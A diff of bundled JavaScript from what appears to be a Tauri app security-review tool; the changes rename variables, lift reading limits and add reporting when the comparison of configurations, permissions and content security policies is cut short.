   const app = lock && ownPackage(lock, cargoWorkspace(location.root, files));
@@ -27618,8 +27754,8 @@ var settings = [
 
 // src/readers/tauri-config/settings-in-code.ts
 function settingsInCode(project) {
-  const known5 = found6.get(project);
-  if (known5 !== void 0) return known5;
+  const known6 = found6.get(project);
+  if (known6 !== void 0) return known6;
   const read7 = {
     allowed: settings.flatMap(({ name, inCode: inCode2 }) => named4(name, inCode2?.(project))),
     forbidden: settings.flatMap(({ name, forbiddenByCode }) => named4(name, forbiddenByCode?.(project)))
@@ -27788,8 +27924,8 @@ function discoverApps(paths3) {
     const rank3 = rankOf(path);
     if (rank3 < 0) continue;
     const root = folderOf(path);
-    const known5 = configOf.get(root);
-    if (known5 === void 0 || rank3 < rankOf(known5)) configOf.set(root, path);
+    const known6 = configOf.get(root);
+    if (known6 === void 0 || rank3 < rankOf(known6)) configOf.set(root, path);
   }
   return [...configOf].map(([root, config]) => ({ root, config })).sort((a3, b5) => a3.root < b5.root ? -1 : 1);
 }
@@ -27798,7 +27934,7 @@ function rankOf(path) {
 }
 
 // src/engine/found-app.ts
-var DEEPEST12 = 3;
+var DEEPEST10 = 3;
 var PASSED_OVER = /(?:^|\/)(?:node_modules|target|\.[^/]+)(?:\/|$)/;
 var IGNORE_FILES = [".taurignore", ".gitignore"];
 function foundFrom(folder, apps, ignoring, work) {
@@ -27819,7 +27955,7 @@ function foldersOnTheWay(folder, apps) {
 function appsBelow(folder, apps) {
   return apps.filter(({ root }) => {
     const inside = below(folder, root);
-    return inside !== void 0 && inside.split("/").length <= DEEPEST12 && !PASSED_OVER.test(inside);
+    return inside !== void 0 && inside.split("/").length <= DEEPEST10 && !PASSED_OVER.test(inside);
   });
 }
 function compareWalked(a3, b5) {
@@ -27843,8 +27979,9 @@ function saidOf(folder, hidden, name, ignoring, work) {
   for (const holder of withAncestors(folderOf(hidden))) {
     const inside = below(holder, hidden);
     const file2 = ignoring.get(inFolder(holder, name));
-    const lines2 = file2?.text.split("\n", MOST_LINES3).reverse() ?? [];
+    const lines2 = file2?.text.split("\n").reverse() ?? [];
     for (const line of lines2) {
+      work.spend(1);
       const [, not2, pattern] = /^(!?)(.*?)\/?$/.exec(line.trimEnd()) ?? [];
       if (pattern === void 0 || pattern === "" || pattern.startsWith("#") || inside === void 0)
         continue;
@@ -27854,7 +27991,6 @@ function saidOf(folder, hidden, name, ignoring, work) {
   }
   return void 0;
 }
-var MOST_LINES3 = 5e3;
 
 // src/engine/read-files.ts
 async function readBothSides(base, head, wantedOfBase, wantedOfHead) {
@@ -27874,9 +28010,9 @@ async function readSide(tree, wanted, shared2) {
   const missing = [];
   let bytes = 0;
   for (const entry of wanted) {
-    const known5 = shared2.get(keyOf3(entry));
+    const known6 = shared2.get(keyOf3(entry));
     bytes += entry.size;
-    if (known5 !== void 0) files.set(entry.path, known5);
+    if (known6 !== void 0) files.set(entry.path, known6);
     else if (entry.size > TREE_LIMITS.fileBytes || bytes > TREE_LIMITS.totalBytes) {
       gaps.push(
         gapIn(entry.path, {
@@ -28082,11 +28218,11 @@ function withoutRepetition3(compared) {
     if (app.takesOver === null) return reviewed;
     const own = compared.filter((each) => each.app.takesOver === null && each.app.location === app.location);
     const said2 = new Set(own.flatMap((each) => each.reviewed.findings).map(findingName));
-    const known5 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
+    const known6 = new Set(own.flatMap((each) => each.reviewed.gaps).map(gapName));
     return {
       findings: reviewed.findings.filter((finding) => !said2.has(findingName(finding))).map((finding) => ({ ...finding, message: `${app.takesOver} ${finding.message}` })),
       narrowings: [],
-      gaps: reviewed.gaps.filter((gap3) => !known5.has(gapName(gap3)))
+      gaps: reviewed.gaps.filter((gap3) => !known6.has(gapName(gap3)))
     };
   });
 }
@@ -28173,13 +28309,12 @@ async function buildsTurned(base, head, apps) {
   if (new Set(apps.map(({ root }) => root)).size < 2) return () => void 0;
   const ids = new Map(base.entries.map(({ path, id }) => [path, id]));
   const isChanged = ({ path, id }) => ids.has(path) && ids.get(path) !== id;
-  const changed = head.entries.filter((entry) => isChanged(entry) && hasNameOfStart(entry.path)).filter(({ path }) => apps.some((app) => mayStartBuilds(path, app))).slice(0, MOST_FILES3);
+  const changed = head.entries.filter((entry) => isChanged(entry) && hasNameOfStart(entry.path)).filter(({ path }) => apps.some((app) => mayStartBuilds(path, app)));
   const paths3 = new Set(changed.map(({ path }) => path));
   const before2 = base.entries.filter(({ path }) => paths3.has(path));
   const files = await readBothSides(base.tree, head.tree, before2, changed);
   return turnedBuilds(files.base.files, files.head.files);
 }
-var MOST_FILES3 = 2e3;
 
 // src/engine/followed.ts
 function namedBy3(app, wanted, files, { entries, contents }) {
@@ -28189,8 +28324,8 @@ function namedBy3(app, wanted, files, { entries, contents }) {
     projectFollows(app, project.files, contents),
     ...appReaders.flatMap((reader) => reader.follows?.(project) ?? [])
   ];
-  const known5 = new Set(wanted.map(({ path }) => path));
-  return entries.filter(({ path }) => !known5.has(path) && names2.some((isNamed4) => isNamed4(path)));
+  const known6 = new Set(wanted.map(({ path }) => path));
+  return entries.filter(({ path }) => !known6.has(path) && names2.some((isNamed4) => isNamed4(path)));
 }
 function filesOf(wanted, files) {
   return new Map(
@@ -28240,7 +28375,7 @@ function isTest(path) {
 }
 
 // src/engine/file-kinds.ts
-function kindOf(path, apps) {
+function kindOf2(path, apps) {
   return FILE_KINDS.find((kind) => kind.is(path, apps)) ?? UNKNOWN2;
 }
 var UNKNOWN2 = {
@@ -28437,7 +28572,7 @@ function decidingLines(texts) {
 function wordsOfCalls(texts) {
   const rust = texts.filter(({ path }) => path.endsWith(".rs"));
   const lines2 = rust.flatMap(({ text: text2 }) => text2.split("\n")).filter((line) => DECIDES2.test(line));
-  return new Set(lines2.flatMap((line) => line.slice(0, 2e3).match(/\w+/g) ?? []));
+  return new Set(lines2.flatMap((line) => line.match(/\w+/g) ?? []));
 }
 
 // src/engine/mentions.ts
@@ -28494,7 +28629,8 @@ function leadsTo(word2, path, by, roots) {
 var UNKNOWN3 = "﷑";
 var VARIABLE4 = /\$\{?[\w.:-]{1,100}\}?|%\w{1,100}%|\{\{[^{}\n]{0,200}\}\}/g;
 var BETWEEN = /[\s"'`=,:;()<>|&[\]{}$#!*?%@]+/;
-var QUOTED = /"((?:[^"\\\n]|\\.){1,300})"/g;
+var LONGEST_PATH4 = 4096;
+var QUOTED = /"((?:[^"\\\n]|\\.){1,4096})"/g;
 var DOCUMENTATION = /#!?\[.{0,200}\bdoc\s*=/;
 function wordsOf3(file2) {
   if (/\.(?:json5?|toml)$/.test(file2.path)) return wordsOfSettings(file2) ?? wordsOfText(file2);
@@ -28508,7 +28644,7 @@ function wordsOfText({ text: text2 }) {
   return text2.split("\n").flatMap((line, i2) => wordsIn(line, i2 + 1));
 }
 function wordsIn(text2, line) {
-  return text2.replace(VARIABLE4, UNKNOWN3).split(BETWEEN).filter((word2) => word2.length > 1 && word2.length <= 300).map((word2) => ({ word: word2.replaceAll(/[\\/]+/g, "/"), line }));
+  return text2.replace(VARIABLE4, UNKNOWN3).split(BETWEEN).filter((word2) => word2.length > 1 && word2.length <= LONGEST_PATH4).map((word2) => ({ word: word2.replaceAll(/[\\/]+/g, "/"), line }));
 }
 var DULL_SETTING = /^(?:icon|license(?:-?[fF]ile)?|readme|\$schema|repository|homepage)$/;
 var DULL_IN_MANIFEST = /^(?:main|module|types|typings|exports|files|browser|include|exclude)$/;
@@ -28576,10 +28712,14 @@ function commandsOfHook(hook, { root }, runnable, budget) {
 }
 
 // src/engine/imports.ts
-var IMPORTED = /(?:\bfrom|\bimport|\brequire|\bimport\s*\(|\brequire\s*\(|\brequire\.resolve\s*\(|\bnew\s+(?:URL|Worker)\s*\()\s{0,20}["'`]([^"'`\n$]{1,200})["'`]/g;
-var LONGEST_PROGRAM = 5e5;
-function importsOf({ path, text: text2 }) {
-  if (text2.length > LONGEST_PROGRAM) return { paths: [], packages: [] };
+var IMPORTED = /(?:\bfrom|\bimport|\brequire|\bimport\s*\(|\brequire\s*\(|\brequire\.resolve\s*\(|\bnew\s+(?:URL|Worker)\s*\()\s{0,20}["'`]([^"'`\n$]{1,4096})["'`]/g;
+var known5 = /* @__PURE__ */ new WeakMap();
+function importsOf(file2) {
+  const imports = known5.get(file2) ?? readImports(file2);
+  known5.set(file2, imports);
+  return imports;
+}
+function readImports({ path, text: text2 }) {
   const names2 = new Set([...text2.matchAll(IMPORTED)].map(([, name = ""]) => name));
   const [relative, others] = [[...names2].filter(isRelative), [...names2].filter((name) => !isRelative(name))];
   const ways = relative.flatMap((name) => joined(folderOf(path), name.replace(/[?#].*$/, "")) ?? []);
@@ -28599,10 +28739,9 @@ function filesOf2(way) {
 
 // src/engine/programs.ts
 var NOTHING5 = { base: { files: /* @__PURE__ */ new Map(), gaps: [] }, head: { files: /* @__PURE__ */ new Map(), gaps: [] } };
-var NO_PROGRAMS = { read: NOTHING5, changed: NOTHING5, isOne: () => false };
-var MOST_ROUNDS2 = 6;
-var MOST_PROGRAMS = 300;
-var LONGEST7 = 1024 * 1024;
+var NO_PROGRAMS = { read: NOTHING5, changed: NOTHING5, isOne: () => false, isCut: false };
+var MOST_ROUNDS2 = 60;
+var LONGEST7 = 8 * 1024 * 1024;
 async function readPrograms(base, head, pairs, named8, changed) {
   const sides = {
     base: searchOf("base", base, pairs, named8.base),
@@ -28610,25 +28749,37 @@ async function readPrograms(base, head, pairs, named8, changed) {
   };
   let read7 = NOTHING5;
   for (let round = 0; round < MOST_ROUNDS2; round += 1) {
-    const wanted = (side) => sides[side](read7[side]).filter((entry) => isWorthReading(entry, read7[side])).slice(0, Math.max(MOST_PROGRAMS - read7[side].files.size, 0));
-    const [there, here] = [wanted("base"), wanted("head")];
-    if (there.length === 0 && here.length === 0) break;
-    const more = await readBothSides(base.tree, head.tree, there, here);
+    const wanted = (side) => sides[side](read7[side]).filter((entry) => isWorthReading(entry, read7[side]));
+    const [there2, here2] = [wanted("base"), wanted("head")];
+    if (there2.length === 0 && here2.length === 0) break;
+    const more = await readBothSides(base.tree, head.tree, there2, here2);
     read7 = { base: together2(read7.base, more.base), head: together2(read7.head, more.head) };
   }
-  const found8 = [sides.base(read7.base), sides.head(read7.head)].flat().map(({ path }) => path);
-  const paths3 = new Set(found8);
-  return { read: read7, changed: await readChanged(base, head, changed), isOne: (path) => paths3.has(path) };
+  const [there, here] = [sides.base(read7.base), sides.head(read7.head)];
+  const paths3 = new Set([...there, ...here].map(({ path }) => path));
+  const isCut = here.some(({ path }) => isCode3(path) && !read7.head.files.has(path));
+  return {
+    read: read7,
+    changed: await readChanged(base, head, changed),
+    isOne: (path) => paths3.has(path) || isCut && mayRun(path),
+    isCut
+  };
 }
-var LONGEST_CHANGED = 8 * LONGEST7;
-var MOST_CHANGED = 1e3;
 var MAY_RUN = /\.(?:[cm]?[jt]sx?|vue|svelte|astro|py|rb|pl|php|lua)$/i;
 function mayRun(path) {
   return MAY_RUN.test(path);
 }
 async function readChanged(base, head, changed) {
-  const codeOf6 = ({ listing: { entries } }) => entries.filter(({ path, size }) => changed.has(path) && mayRun(path) && size <= LONGEST_CHANGED).slice(0, MOST_CHANGED);
-  return readBothSides(base.tree, head.tree, codeOf6(base), codeOf6(head));
+  const codeOf6 = ({ listing: { entries } }) => entries.filter(({ path }) => changed.has(path) && mayRun(path));
+  const isShort = ({ size }) => size <= LONGEST7;
+  const [there, here] = [codeOf6(base), codeOf6(head)];
+  const read7 = await readBothSides(base.tree, head.tree, there.filter(isShort), here.filter(isShort));
+  const long = here.filter((entry) => !isShort(entry)).map(tooLong);
+  return { ...read7, head: { ...read7.head, gaps: [...read7.head.gaps, ...long] } };
+}
+function tooLong(entry) {
+  const message = `${code(entry.path)} changed, and is longer than what is read of a program: look at whether a build runs it, and what it writes.`;
+  return gapIn(entry.path, { kind: "truncated", rests: contentOf(entry), message });
 }
 function isWorthReading({ path, size }, { files, gaps }) {
   return size <= LONGEST7 && !files.has(path) && !gaps.some((gap3) => gap3.path === path);
@@ -28642,10 +28793,9 @@ function searchOf(side, { listing: { entries } }, pairs, { files }) {
     const programs2 = [...read7.files.values()].filter(({ path }) => isCode3(path) && !isTest(path));
     const imports = programs2.map(importsOf);
     const paths3 = new Set(imports.flatMap((each) => each.paths));
-    const taken3 = [...new Set(imports.flatMap((each) => each.packages))].flatMap(
-      (name) => folders.get(name) ?? []
-    );
-    const isTaken = (path) => paths3.has(path) || taken3.some((folder) => path.startsWith(`${folder}/`));
+    const names2 = new Set(imports.flatMap((each) => each.packages));
+    const taken3 = new Set([...names2].flatMap((name) => folders.get(name) ?? []));
+    const isTaken = (path) => paths3.has(path) || taken3.size > 0 && withAncestors(folderOf(path)).some((each) => taken3.has(each));
     return [.../* @__PURE__ */ new Set([...roots, ...entries.filter(({ path }) => isTaken(path) && !isTypes(path))])];
   };
 }
@@ -28707,22 +28857,22 @@ var NOT_ASKED3 = {
   programs: NO_PROGRAMS,
   mentions: /* @__PURE__ */ new Map()
 };
-var MOST_ROUNDS3 = 4;
+var MOST_ROUNDS3 = 20;
 async function namedChanges(base, head, pairs, changed) {
   const apps = pairs.flatMap((pair) => [pair.base, pair.head].flatMap((app) => app ?? []));
   const doubtful = [...changed].filter((path) => !mayBeNamed(path));
   const asked2 = [...changed].filter((path) => isAsked(path, apps));
   if (pairs.length === 0 || doubtful.length === 0 && asked2.length === 0) return NOT_ASKED3;
-  const read7 = await readWhatNames(base, head, pairs);
+  const { read: read7, isCut } = await readWhatNames(base, head, pairs);
   const programs2 = await readPrograms(base, head, pairs, read7, changed);
   const roots = [...new Set(apps.map(({ root }) => root))];
   const mayName = mentionedIn(textsOf2(read7), roots);
   const mentions = mentionsOf2(textsOf2(read7, programs2.read), roots, asked2);
-  return { named: new Set(doubtful.filter(mayName)), read: read7, programs: programs2, mentions };
+  return { named: new Set(doubtful.filter((path) => isCut || mayName(path))), read: read7, programs: programs2, mentions };
 }
 function isAsked(path, apps) {
   if (mayRun(path)) return true;
-  const kind = kindOf(path, apps);
+  const kind = kindOf2(path, apps);
   return kind.coverage === "irrelevant" || kind === UNKNOWN2;
 }
 function textsOf2(...read7) {
@@ -28737,11 +28887,11 @@ async function readWhatNames(base, head, pairs) {
   let read7 = { base: NOTHING6, head: NOTHING6 };
   for (let round = 0; round < MOST_ROUNDS3; round += 1) {
     const [there, here] = [unread2("base", base, read7.base, pairs), unread2("head", head, read7.head, pairs)];
-    if (there.length === 0 && here.length === 0) break;
+    if (there.length === 0 && here.length === 0) return { read: read7, isCut: false };
     const more = await readBothSides(base.tree, head.tree, there, here);
     read7 = { base: together2(read7.base, more.base), head: together2(read7.head, more.head) };
   }
-  return read7;
+  return { read: read7, isCut: true };
 }
 function unread2(side, { entries }, { files, gaps }, pairs) {
   const failed2 = new Set(gaps.map(({ path }) => path));
@@ -28758,7 +28908,7 @@ function namesOthers(app, files) {
   return (path) => path === app.config || mayNameFiles(path, app) || isOfCrate2(path) || /Cargo\.toml$/.test(path) && isOfCargo(path);
 }
 var BETWEEN2 = /[\s"'`/\\=:,;()<>|&[\]{}$#]+/;
-var QUOTED2 = /"((?:[^"\\\n]|\\.){1,300})"/g;
+var QUOTED2 = /"((?:[^"\\\n]|\\.){1,4096})"/g;
 function mentionedIn(texts, roots) {
   const words3 = /* @__PURE__ */ new Set();
   const folders = /* @__PURE__ */ new Set();
@@ -28800,15 +28950,13 @@ async function gather(before2, after2, pairs, changed) {
     looked.map((each) => unread3(each, asked2))
   );
   let read7 = { base: together2(asked2.base, first.base), head: together2(asked2.head, first.head) };
+  let isCut = false;
   for (let round = 0; round < MOST_ROUNDS4; round += 1) {
     const { base: there, head: here } = read7;
-    const followed = looked.map((each) => ({
-      pair: each.pair,
-      base: [...each.base, ...namedBy3(each.pair.base, each.base, there.files, base)],
-      head: [...each.head, ...namedBy3(each.pair.head, each.head, here.files, head)]
-    }));
+    const followed = looked.map((each) => withNamedBy(each, read7, base, head));
     const isAll = sizeOf2(followed) === sizeOf2(looked);
     looked = followed;
+    isCut = !isAll;
     if (isAll) break;
     const more = await readApps(
       base,
@@ -28817,16 +28965,38 @@ async function gather(before2, after2, pairs, changed) {
     );
     read7 = { base: together2(there, more.base), head: together2(here, more.head) };
   }
+  if (isCut) {
+    looked = looked.map((each) => withNamedBy(each, read7, base, head));
+    read7 = {
+      base: { ...read7.base, gaps: [...read7.base.gaps, ...tooFar(looked, "base", read7.base, base)] },
+      head: { ...read7.head, gaps: [...read7.head.gaps, ...tooFar(looked, "head", read7.head, head)] }
+    };
+  }
   return {
-    touched: looked.filter((each) => anyMoved || !untouched(each)).map(({ pair }) => pair),
+    touched: looked.filter((each) => anyMoved || isCut || !untouched(each) || runsTooMuch(each.pair.head, read7.head.files)).map(({ pair }) => pair),
     ...read7,
     names: names2
+  };
+}
+function withNamedBy({ pair, base, head }, read7, before2, after2) {
+  return {
+    pair,
+    base: [...base, ...namedBy3(pair.base, base, read7.base.files, before2)],
+    head: [...head, ...namedBy3(pair.head, head, read7.head.files, after2)]
   };
 }
 function wantedOf3(pair, { entries: there }, { entries: here }) {
   return { pair, base: wantedBy(pair.base, there), head: wantedBy(pair.head, here) };
 }
-var MOST_ROUNDS4 = 4;
+var MOST_ROUNDS4 = 20;
+function tooFar(looked, side, { files, gaps }, of2) {
+  const failed2 = new Set(gaps.map(({ path }) => path));
+  const left2 = looked.flatMap((each) => each[side]).filter(({ path }) => !files.has(path) && !failed2.has(path));
+  return oncePerPath(left2).map(({ path }) => {
+    const message = `${code(path)} is named by a file that another one names, and so on over more steps than are followed; nothing in it was compared.`;
+    return gapIn(path, { kind: "truncated", rests: wordsOf(path, of2.contents.at("")), message });
+  });
+}
 function withCode({ pair, base, head }, { entries: there }, { entries: here }) {
   return {
     pair,
@@ -28893,17 +29063,17 @@ function foldedPath(path) {
   return PLAIN2.test(path) ? path : path.split("/").map(foldedName).join("/");
 }
 var PLAIN2 = /^[a-z0-9_-]+(?:[./][a-z0-9_-]+)*$/;
-function namesFor(name, known5) {
+function namesFor(name, known6) {
   const folded4 = foldedName(name);
-  const foldedKnown = foldedNames(known5);
+  const foldedKnown = foldedNames(known6);
   const isShort = name.includes("~");
-  const others = known5.filter((each, i2) => foldedKnown[i2] === folded4 || isShort && isShortFor(name, each));
+  const others = known6.filter((each, i2) => foldedKnown[i2] === folded4 || isShort && isShortFor(name, each));
   return [.../* @__PURE__ */ new Set([name, ...others])];
 }
 var foldedOf = /* @__PURE__ */ new WeakMap();
-function foldedNames(known5) {
-  const folded4 = foldedOf.get(known5) ?? known5.map(foldedName);
-  foldedOf.set(known5, folded4);
+function foldedNames(known6) {
+  const folded4 = foldedOf.get(known6) ?? known6.map(foldedName);
+  foldedOf.set(known6, folded4);
   return folded4;
 }
 var SHORT = /^([^.~]{1,6})~\d+(?:\.([^.]{0,3}))?$/;
@@ -28963,23 +29133,22 @@ function foldedGaps({ entries, unfollowed }, apps) {
     all.flatMap(({ path }) => twins.has(foldedPath(path)) ? [[foldedPath(path), path]] : [])
   );
   return apps.flatMap((app) => {
-    const known5 = [...KNOWN_NAMES, ...app.root.split("/")];
+    const known6 = [...KNOWN_NAMES, ...app.root.split("/")];
     return odd.flatMap((each) => {
       const twin = plain5.get(each.folded);
       if (twin !== void 0 && twin !== each.path && isWanted(twin, app))
         return [foldedGap(each, twin, app)];
-      const meant = pathsFor(each.path, known5).find((path) => isMeant(each.path, path, app));
+      const paths3 = pathsFor(each.path, known6);
+      const meant = paths3 === void 0 ? app.config : paths3.find((path) => isMeant(each.path, path, app));
       return meant === void 0 ? [] : [foldedGap(each, meant, app)];
     });
   });
 }
 var MOST_PATHS = 64;
-function pathsFor(path, known5) {
-  const [first = "", ...names2] = path.split("/");
-  return names2.reduce(
-    (paths3, name) => namesFor(name, known5).flatMap((each) => paths3.map((start) => `${start}/${each}`)).slice(0, MOST_PATHS),
-    namesFor(first, known5)
-  );
+function pathsFor(path, known6) {
+  const names2 = path.split("/").map((name) => namesFor(name, known6));
+  if (names2.reduce((count, each) => count * each.length, 1) > MOST_PATHS) return void 0;
+  return names2.reduce((paths3, each) => each.flatMap((name) => paths3.map((start) => `${start}/${name}`)));
 }
 function otherThan(name) {
   const folded4 = foldedName(name);
@@ -28996,11 +29165,10 @@ function foldedGap({ path, id }, elsewhere, app) {
 }
 
 // src/engine/changed-settings.ts
-var MOST_CHANGED2 = 1e3;
 function changedSettings(base, head, path) {
   const [was, is] = [leavesOf(base), leavesOf(head)];
   const keys = /* @__PURE__ */ new Set([...is.keys(), ...was.keys()]);
-  return [...keys].filter((key) => was.get(key)?.values.sort().join() !== is.get(key)?.values.sort().join()).slice(0, MOST_CHANGED2).map((key) => ({ key: JSON.parse(key), at: is.get(key)?.at ?? topOf(path) }));
+  return [...keys].filter((key) => was.get(key)?.values.sort().join() !== is.get(key)?.values.sort().join()).map((key) => ({ key: JSON.parse(key), at: is.get(key)?.at ?? topOf(path) }));
 }
 function leavesOf(root) {
   const leaves = /* @__PURE__ */ new Map();
@@ -29171,14 +29339,14 @@ function camelCase2(name) {
 }
 
 // src/engine/coverage.ts
-function coverageOf(paths3, apps, base, head, known5) {
+function coverageOf(paths3, apps, base, head, known6) {
   const read7 = [];
   const irrelevant = [];
   const uncovered = [];
   for (const path of [...paths3].sort()) {
-    const kind = kindOf(path, apps);
+    const kind = kindOf2(path, apps);
     const isRead = kind.isReadAnyway === true || base.files.has(path) || head.files.has(path) || isUnreadable(path, base, head);
-    const what = whatElse(path, kind, isRead, known5);
+    const what = whatElse(path, kind, isRead, known6);
     if (isRead) read7.push(path);
     if (what !== void 0) uncovered.push({ path, what, gaps: [] });
     else if (!isRead && kind.coverage === "irrelevant") irrelevant.push(path);
@@ -29251,6 +29419,7 @@ function parsed4(file2) {
 // src/engine/deciding-changes.ts
 var DECIDES_BUILD = /\b(?:capabilities|permissions)\b(?:[/\\'"`]|$)|\btauri(?:\.\w+)?\.conf\b|\bTauri\.toml\b|\bTAURI_CONFIG\b|\bsrc-tauri[/\\]+build\.rs\b/;
 var OF_TAURI2 = /\btauri(?:\.\w+)?\.conf\b|\bTauri\.toml\b|\bTAURI_CONFIG\b|\bsrc-tauri[/\\]+(?:build\.rs|capabilities|permissions)\b/g;
+var ANY_OF_TAURI = new RegExp(DECIDES_BUILD, "g");
 var WRITES3 = /write|append|copy|\bcp(?:Sync)?\b|rename|move|symlink|\blink|outputJson|save|dump|open\s*\(|exec|spawn|fork|system|popen|subprocess|\brun\b|environ|process\.env|\bENV\b|`/i;
 function decidingChanges(changed, apps, packages, makesNothing, isRun) {
   const paths3 = /* @__PURE__ */ new Set([...changed.base.files.keys(), ...changed.head.files.keys()]);
@@ -29264,10 +29433,10 @@ function decidingChanges(changed, apps, packages, makesNothing, isRun) {
 }
 function mayWrite(was, is, isRun) {
   if (!WRITES3.test(is.text)) return [];
-  const known5 = new Set(linesOf2(was).map(({ text: text2 }) => text2));
-  const named8 = linesOf2(is).filter(({ text: text2 }) => DECIDES_BUILD.test(text2));
-  const fresh = named8.find(({ text: text2 }) => !known5.has(text2));
-  const first = fresh ?? (isRun ? named8[0] : void 0);
+  const known6 = new Set(linesOf2(was, ANY_OF_TAURI).map(({ text: text2 }) => text2));
+  const named8 = (ofLong) => linesOf2(is, ofLong).filter(({ text: text2 }) => DECIDES_BUILD.test(text2));
+  const fresh = named8(ANY_OF_TAURI).find(({ text: text2 }) => !known6.has(text2));
+  const first = fresh ?? (isRun ? named8(OF_TAURI2)[0] : void 0);
   if (first === void 0) return [];
   const how = fresh === void 0 ? "changed, and names" : "newly names";
   const message = `This program ${how} what Tauri reads when the app is built, and may write it: look at what it does with ${code(
@@ -29283,13 +29452,13 @@ function isComment2(line, path) {
   return false;
 }
 var LONGEST_LINE2 = 2e3;
-function linesOf2(file2) {
+function linesOf2(file2, ofLong) {
   const counts3 = /* @__PURE__ */ new Map();
   return (file2?.text ?? "").split("\n").flatMap((written6, i2) => {
     const text2 = written6.trim();
     if (isComment2(text2, file2?.path ?? "")) return [];
     if (text2.length <= LONGEST_LINE2) return [{ text: text2, line: i2 + 1 }];
-    return [...text2.matchAll(OF_TAURI2)].map(([word2]) => {
+    return [...text2.matchAll(ofLong)].map(([word2]) => {
       const count = (counts3.get(word2) ?? 0) + 1;
       counts3.set(word2, count);
       return { text: `${word2} ${count}`, line: i2 + 1 };
@@ -29306,12 +29475,14 @@ function policyChanged(path, was, is) {
 }
 function policiesIn2(file2) {
   const text2 = file2?.text ?? "";
-  return [...text2.matchAll(POLICY)].map(({ index }) => nearby(text2, index)).sort();
+  return [...text2.matchAll(POLICY)].map(({ index }) => nearby(text2, index) ?? file2?.id ?? "").sort();
 }
 function nearby(text2, index) {
   const start = Math.max(text2.lastIndexOf("<", index), text2.lastIndexOf("\n", index), index - AROUND);
   const rest2 = text2.slice(index, index + AROUND);
-  const end = /\/>|>\s*\n|\n\s*\n|;\s*\n/.exec(rest2)?.index ?? rest2.length;
+  const found8 = /\/>|>\s*\n|\n\s*\n|;\s*\n/.exec(rest2)?.index;
+  if (found8 === void 0 && index + AROUND < text2.length) return void 0;
+  const end = found8 ?? rest2.length;
   return text2.slice(start + 1, index + end).replace(/\s+/g, " ").trim();
 }
 function isOfFrontend(path, apps, packages) {
@@ -29360,7 +29531,7 @@ function lookedAt(paths3, apps, { base, head, names: { programs: programs2, ment
     isIsolation: isolationOf(apps, [base, head, read7.base, read7.head], programs2.changed),
     mentions
   });
-  const makesNothing = (path) => !programs2.isOne(path) && (isTest(path) || isAmongPages(path, apps) || kindOf(path, apps).coverage === "irrelevant");
+  const makesNothing = (path) => !programs2.isOne(path) && (isTest(path) || isAmongPages(path, apps) || kindOf2(path, apps).coverage === "irrelevant");
   const packages = new Set(
     sides.head.listing.entries.filter(({ path }) => /(?:^|\/)package\.json$/.test(path)).map(({ path }) => folderOf(path))
   );
@@ -29368,7 +29539,14 @@ function lookedAt(paths3, apps, { base, head, names: { programs: programs2, ment
     changed,
     gaps: [
       ...gaps,
-      ...decidingChanges(programs2.changed, apps, packages, makesNothing, (path) => mentions.has(path)),
+      ...decidingChanges(
+        programs2.changed,
+        apps,
+        packages,
+        makesNothing,
+        (path) => mentions.has(path) || programs2.isCut && programs2.isOne(path)
+      ),
+      ...programs2.changed.head.gaps.filter(({ path }) => !makesNothing(path)),
       ...[...mentions].flatMap(([path, { by, decides: decides3 }]) => {
         const isRead = base.files.has(path) || head.files.has(path);
         return decides3 && !isRead ? [decidesByContent({ path, id: sides.head.contents.at(path) }, by)] : [];
@@ -29468,12 +29646,12 @@ var Extents = class {
     return wholesOf(extent).reduce((set, whole2) => set | (wholes.get(whole2) ?? NO_PLATFORM), NO_PLATFORM);
   }
   extentsBySetting() {
-    return new Map([...this.#of].map(([setting10, known5]) => [setting10, [...known5.keys()]]));
+    return new Map([...this.#of].map(([setting10, known6]) => [setting10, [...known6.keys()]]));
   }
 };
 function add2(to, { setting: setting10, extent, platforms }) {
-  const known5 = to.get(setting10) ?? /* @__PURE__ */ new Map();
-  to.set(setting10, known5.set(extent, (known5.get(extent) ?? NO_PLATFORM) | platforms));
+  const known6 = to.get(setting10) ?? /* @__PURE__ */ new Map();
+  to.set(setting10, known6.set(extent, (known6.get(extent) ?? NO_PLATFORM) | platforms));
 }
 function wholesOf(extent) {
   if (extent === "") return [];
@@ -29556,18 +29734,18 @@ function gained(before2, after2, direction, appIsNew) {
   const found8 = /* @__PURE__ */ new Map();
   for (const grant of settingsIn2(after2)) {
     const name = nameOf7(grant);
-    const known6 = found8.get(name);
+    const known7 = found8.get(name);
     const possible = grant.comesWith === null ? EVERY_PLATFORM : parts.get(grant.comesWith) ?? NO_PLATFORM;
     const fresh = grant.platforms & ~had.platformsOf(grant) & possible;
-    const platforms = fresh | (known6?.platforms ?? NO_PLATFORM);
-    if (platforms !== NO_PLATFORM) found8.set(name, { ...known6 ?? grant, platforms });
+    const platforms = fresh | (known7?.platforms ?? NO_PLATFORM);
+    if (platforms !== NO_PLATFORM) found8.set(name, { ...known7 ?? grant, platforms });
   }
   const wholes = new Extents(found8.values());
-  const known5 = had.extentsBySetting();
+  const known6 = had.extentsBySetting();
   return [...found8.values()].flatMap((grant) => {
     const platforms = grant.platforms & ~wholes.platformsOfWholes(grant);
     if (platforms === NO_PLATFORM) return [];
-    const extents = known5.get(grant.setting) ?? [];
+    const extents = known6.get(grant.setting) ?? [];
     const waited = extents.includes(`${grant.extent}${UNHEEDED}`);
     const brought = waited && grant.heededBy ? placeOfPart(after2, grant.heededBy, platforms) : void 0;
     const context2 = { before: extents, waited: waited ? grant.at : null, appIsNew };
@@ -30511,7 +30689,7 @@ function parsePolicy(text2, own, engine) {
 }
 
 // src/compare/csp/search.ts
-var MOST_STEPS11 = 5e5;
+var MOST_STEPS8 = 5e5;
 function search(narrow, wide, work) {
   const narrowPages = narrow.map(parsePage);
   const widePages = wide.map(parsePage);
@@ -30526,7 +30704,7 @@ function search(narrow, wide, work) {
     for (const attempt2 of attemptsOn(page, document, names2)) {
       steps += cost;
       work.spend(cost);
-      if (steps > MOST_STEPS11) return { found: found8, complete: false };
+      if (steps > MOST_STEPS8) return { found: found8, complete: false };
       const allowed2 = decide(page, document, attempt2.act, attempt2.url);
       const refused = allowed2.allowed ? refusedByAll(refusing, attempt2) : void 0;
       if (!refused) continue;
@@ -30919,11 +31097,11 @@ function compareOneWay(narrow, wide, work) {
       const [narrowSays, wideSays] = [meaning(sides.narrow), meaning(sides.wide)];
       if (narrowSays === wideSays) continue;
       const key = JSON.stringify([narrowSays, wideSays]);
-      const known5 = searches.get(key);
-      const result2 = known5 ?? search(sides.narrow, sides.wide, work);
+      const known6 = searches.get(key);
